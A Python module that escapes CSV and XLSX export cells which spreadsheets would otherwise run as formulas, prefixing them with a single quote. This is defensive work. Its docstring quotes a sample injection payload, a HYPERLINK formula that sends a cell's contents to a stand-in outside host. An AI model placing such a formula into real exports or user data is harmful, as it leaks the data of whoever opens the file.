"""Cells that a spreadsheet opens as text, never as a formula (every CSV or XLSX export).

Excel, LibreOffice and Google Sheets run a cell as a formula when it begins with ``=``, ``+``,
``-`` or ``@``, also after leading spaces, and treat a leading tab or carriage return as
nothing; a registry name such as ``=HYPERLINK("http://x?"&A1, "open")`` would run on the
buyer's machine. Such a cell is written with a leading single quote, which the spreadsheet
shows as text; anything else, and every number, date or empty cell, is written as it is.
"""

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@")
IGNORED_LEADING = ("\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value``, or the text ``'value`` if a spreadsheet would read it as a formula."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(IGNORED_LEADING) or value.lstrip().startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_row(row: Iterable[Any]) -> list[Any]:
    """A row of an export with every cell passed through ``spreadsheet_cell``."""
    return [spreadsheet_cell(value) for value in row]
